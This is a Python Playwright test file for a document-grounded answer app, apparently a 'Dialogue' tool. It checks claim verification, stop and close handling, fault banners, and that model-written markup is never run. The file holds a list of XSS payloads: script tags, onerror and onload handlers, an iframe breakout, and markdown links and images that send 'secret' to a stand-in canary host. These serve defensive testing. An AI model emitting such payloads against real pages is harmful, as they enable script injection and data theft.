"""Written answers in a real browser, from a model server on this machine: checked, stopped, broken off, kept."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.assistant.fault_server import FAULTS, FaultServer, fault_server
from tests.browser.driving import WAIT, apart, ask, picture, served, visited

MODEL = "scripted-model"
QUESTION = "What did Portugal do for migrants waiting for residence permits?"
SUPPORTED = "The Portuguese decree benefited more than 70,000 migrants."
PARTLY = "Portugal committed to treat everyone waiting for a residence permit as having regular status."
INVENTED = "The harbour of Vellmar sold ninety painted kites."
TEXT = f"{SUPPORTED[:-1]} [1]. {PARTLY[:-1]} [1]. {INVENTED}"
LONG = f"{TEXT} {'It goes on and on with words that nobody has checked so far, ' * 40}"
HOSTILE = (
    "Norvik <img src=//canary.test/a.png onerror=\"document.title='hit'\"> sold kites.",
    "Norvik <script>document.title='hit'</script> sold ropes.",
    "Norvik <svg onload=\"document.title='hit'\"></svg> sold lamps.",
    "Norvik ![chart](http://canary.test/?q=secret) sold maps.",
    "Norvik [report](http://canary.test/?q=secret) sold nets.",
    "Norvik <a href=http://canary.test/>here</a> sold oars.",
    "Norvik ${document.title='hit'} {{document.title}} sold sails.",
    "Norvik </template></p></section><iframe src=//canary.test></iframe> sold boats.",
)
"""Sentences that nothing supports, with markup; every request of the page must stay at home all the same."""
GROUPS = tuple(tuple(FAULTS[at : at + 3]) for at in range(0, len(FAULTS), 3))
STOP_SECONDS = 2.0

pytestmark = [pytest.mark.browser, pytest.mark.model, pytest.mark.timeout(240)]


@pytest.fixture(scope="module")
def model() -> Iterator[FaultServer]:
    with apart(fault_server(models=[{"id": MODEL}])) as server:
        yield server


@pytest.fixture(scope="module")
def address(starter_home: Path, model: FaultServer) -> Iterator[str]:
    """The app over the starter corpus, with a model that is quickly given up."""
    settings = {"OPENAI_BASE_URL": model.url, "DIALOGUE_STALL": "2", "DIALOGUE_DEADLINE": "20"}
    with served(starter_home, **settings) as address:
        yield address


@pytest.fixture(autouse=True)
def _well_again(model: FaultServer) -> None:
    model.mode, model.text, model.pause = "good", TEXT, 0.05
    model.hung_up.clear()


@pytest.fixture
def wide(browser: Browser, address: str, request: pytest.FixtureRequest) -> Iterator[Page]:
    """The opened app at one width."""
    with visited(browser, address, width=1280, name=str(request.node.name)) as page:
        yield page


def test_a_sentence_is_checked_before_it_stands(page: Page, model: FaultServer) -> None:
    width = page.viewport_size["width"] if page.viewport_size else 0
    expect(page.locator("#mode")).to_contain_text(f"The words are those of {MODEL}", timeout=WAIT)
    ask(page, QUESTION)
    expect(page.locator(".unchecked")).to_contain_text("Checking", timeout=WAIT)
    expect(page.locator("#ask")).to_be_hidden()
    picture(page, f"written-checking-{width}")
    answer = page.locator(".answer.written")
    expect(answer.locator(".copy")).to_be_visible(timeout=WAIT)
    expect(answer.locator("> p").first).to_contain_text(SUPPORTED)
    expect(page.locator(".unchecked, .broken")).to_have_count(0)
    expect(page.locator("#question textarea")).to_be_focused()
    expect(answer.locator("span.partial")).to_have_text(PARTLY)
    expect(answer.locator(".reason")).to_be_hidden()
    answer.locator(".why").press("Enter")
    expect(answer.locator(".reason")).to_contain_text("does not say that this was committed to")
    struck = answer.locator(".struck")
    expect(struck.locator("s")).to_be_hidden()
    struck.locator("summary").click()
    expect(struck.locator("s")).to_have_text(INVENTED)
    card = page.locator(f"#{answer.locator('.marker').first.get_attribute('data-card')}")
    expect(card.locator("mark")).to_contain_text("70,000")
    answer.locator(".made summary").click()
    expect(answer.locator(".made")).to_contain_text(MODEL)
    assert page.locator("#told").get_attribute("aria-live") == "polite"
    expect(page.locator("#told")).to_contain_text("1 not supported and taken out")
    answer.locator(".copy").click()
    expect(page.locator(".copied")).to_have_text("Copied with references")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert f"{SUPPORTED} [1]" in copied
    assert "(partly supported)" in copied
    assert INVENTED not in copied
    picture(page, f"written-unfolded-{width}")


def test_a_written_answer_is_there_after_a_reload(wide: Page) -> None:
    ask(wide, QUESTION)
    expect(wide.locator(".answer.written .copy")).to_be_visible(timeout=WAIT)
    wide.reload()
    expect(wide.locator(".answer.written > p").first).to_contain_text(SUPPORTED, timeout=WAIT)
    expect(wide.locator(".struck summary")).to_have_text("Not supported by the documents (1)")
    expect(wide.locator("#card-0-1 mark")).to_contain_text("70,000")
    wide.click("#clear")
    expect(wide.locator(".welcome")).to_be_visible()
    wide.reload()
    expect(wide.locator(".welcome")).to_be_visible(timeout=WAIT)
    expect(wide.locator(".answer")).to_have_count(0)
    assert wide.evaluate("localStorage.getItem('dialogue')") is None


def test_stopping_ends_the_call_and_keeps_what_was_checked(wide: Page, model: FaultServer) -> None:
    model.text = LONG
    ask(wide, QUESTION)
    expect(wide.locator("#pending .answer")).to_contain_text(SUPPORTED, timeout=WAIT)
    wide.click("#stop")
    clicked = time.monotonic()
    assert model.hung_up.wait(STOP_SECONDS)
    assert time.monotonic() - clicked < STOP_SECONDS
    expect(wide.locator(".broken")).to_contain_text("Stopped by you. What is shown was checked")
    expect(wide.locator(".answer.written")).to_contain_text(SUPPORTED)
    expect(wide.locator(".answer.written")).not_to_contain_text("nobody has checked")
    expect(wide.locator("#question textarea")).to_be_focused()
    picture(wide, "written-stopped-1280")
    wide.locator(".requote").click()
    expect(wide.locator("#turn-1 .answer.quote .marker").first).to_be_visible(timeout=WAIT)
    expect(wide.locator("#turn-1 .question")).to_have_text(QUESTION)
    expect(wide.get_by_label(f"Written by {MODEL}")).to_be_checked()


def test_closing_the_page_ends_the_call(browser: Browser, address: str, model: FaultServer) -> None:
    model.text = LONG
    with visited(browser, address, width=1280, name="closing") as page:
        ask(page, QUESTION)
        expect(page.locator(".unchecked")).to_be_visible(timeout=WAIT)
    assert model.hung_up.wait(STOP_SECONDS)


def test_a_model_that_stalls_can_be_left(browser: Browser, address: str, model: FaultServer) -> None:
    model.mode = "slow"
    with visited(browser, address, width=1280, name="closing-slow") as page:
        ask(page, QUESTION)
        expect(page.locator("#doing")).to_contain_text("Writing with", timeout=WAIT)
    assert model.hung_up.wait(STOP_SECONDS)


def test_quotations_and_what_is_suggested_can_be_chosen(wide: Page, model: FaultServer) -> None:
    before = len(model.requests)
    wide.get_by_label("Exact quotations").check()
    expect(wide.locator("#mode")).to_contain_text(f"Nothing is sent to {MODEL}")
    ask(wide, QUESTION)
    expect(wide.locator(".answer.quote .marker").first).to_be_visible(timeout=WAIT)
    assert wide.locator(".answer.written").count() == 0
    suggestion = wide.locator(".suggested .example").first
    asked = suggestion.inner_text(timeout=WAIT)
    suggestion.click()
    expect(wide.locator("#turn-1 .question")).to_have_text(asked, timeout=WAIT)
    expect(wide.locator("#turn-1 .answer.quote .marker").first).to_be_visible()
    expect(wide.locator("#turn-0 .suggested")).to_have_count(0)
    assert [each for each in model.requests[before:] if each["path"].endswith("/chat/completions")] == []


@pytest.mark.parametrize("faults", GROUPS, ids=" ".join)
def test_what_breaks_never_looks_finished(wide: Page, model: FaultServer, faults: tuple[str, ...]) -> None:
    for fault in faults:
        if fault != "refused":
            broken_off(wide, model, fault)


def test_what_a_model_writes_is_shown_and_not_run(browser: Browser, starter_home: Path) -> None:
    name = "<img src=x onerror=\"document.title='hit'\">model"
    with (
        apart(fault_server(text=f"{SUPPORTED[:-1]} [1]. {' '.join(HOSTILE)}", models=[{"id": name}])) as model,
        served(starter_home, OPENAI_BASE_URL=model.url) as address,
        visited(browser, address, width=390, name="written-hostile") as page,
    ):
        expect(page.locator("#mode")).to_contain_text("The words are those of <img src=x", timeout=WAIT)
        ask(page, QUESTION)
        expect(page.locator(".answer .copy")).to_be_visible(timeout=WAIT)
        for folded in page.locator("#chat summary").all():
            folded.click()
        expect(page.locator(".made")).to_contain_text(name)
        expect(page.locator("#chat")).to_contain_text("{{document.title}} sold sails")
        loose = ":is(a, img, svg, iframe, form:not(.opinion), script, style)"
        assert page.locator(f":is(#chat, #sources, #mode) {loose}").count() == 0
        page.reload()
        expect(page.locator("#chat")).to_contain_text("sold sails", timeout=WAIT)
        assert page.title() == "Dialogue"


def test_a_model_that_is_not_there(browser: Browser, starter_home: Path) -> None:
    with (
        apart(fault_server("refused")) as model,
        served(starter_home, OPENAI_BASE_URL=model.url) as address,
        visited(browser, address, width=390, name="written-refused") as page,
    ):
        broken_off(page, model, "refused")


def broken_off(page: Page, model: FaultServer, fault: str) -> None:
    """Ask while the model breaks in a way, in a conversation of its own: what stands there says that it is not whole."""
    model.mode, model.pause = fault, 0.0
    page.click("#clear")
    expect(page.locator(".welcome")).to_be_visible()
    ask(page, QUESTION)
    expect(page.locator(".turn .answer")).to_be_visible(timeout=WAIT)
    expect(page.locator("#ask")).to_be_visible(timeout=WAIT)
    written = page.locator(".answer.written")
    banner = page.locator(".broken, .noted")
    expect(banner, fault).to_have_count(1)
    told = banner.inner_text()
    assert "Traceback" not in told, fault
    assert "Error" not in told, fault
    if written.count():
        assert "broke off" in told, fault
        assert "not the whole answer" in told, fault
        expect(page.locator(".requote"), fault).to_be_visible()
    else:
        assert "Exact quotations instead of a written answer: " in told, fault
        expect(page.locator(".answer.quote .marker").first, fault).to_be_visible()
    picture(page, f"fault-{fault}")
